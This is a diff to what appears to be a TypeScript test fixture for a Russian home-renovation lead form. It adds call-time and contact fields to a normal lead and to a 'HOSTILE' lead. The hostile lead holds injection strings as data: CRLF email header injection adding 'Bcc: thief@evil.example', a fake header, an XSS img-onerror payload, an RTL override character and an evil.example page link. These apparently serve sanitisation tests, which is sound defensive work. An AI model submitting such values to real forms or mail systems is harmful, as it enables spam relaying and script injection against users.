@@ -16,6 +16,8 @@ export const LEAD: StoredLead = {
   subject: 'komfort',
   titleShown: 'Комфорт, 64 м²',
   priceShown: '1 482 000 ₽',
+  callTime: 'сегодня до 20:00',
+  contactBy: 'max',
   answers: { Площадь: '64 м²', Дом: 'Новостройка', Дополнительно: ['Лоджия', 'Кондиционер'], Лифт: true },
   page: '/remont/komfort?from=menu',
   attribution: { last: { utm_source: 'yandex', utm_medium: 'cpc' }, referrer: 'https://yandex.ru/' },
@@ -30,6 +32,7 @@ export const HOSTILE: StoredLead = {
   comment:
     '\u202eздесь\r\nBcc: thief@evil.example\n.\nТелефон: +7 000 000-00-00\n*жирно* _курсив_ [user=1]Админ[/user] </td><img src=x onerror=alert(1)>',
   titleShown: 'Комфорт\r\nBcc: thief@evil.example\r\n\r\n<b>',
+  callTime: 'завтра\r\nBcc: thief@evil.example',
   answers: { 'Вопрос\nТелефон': 'ответ\r\nX-Evil: 1', '<i>': '&amp;' },
   page: '//evil.example/',
 };
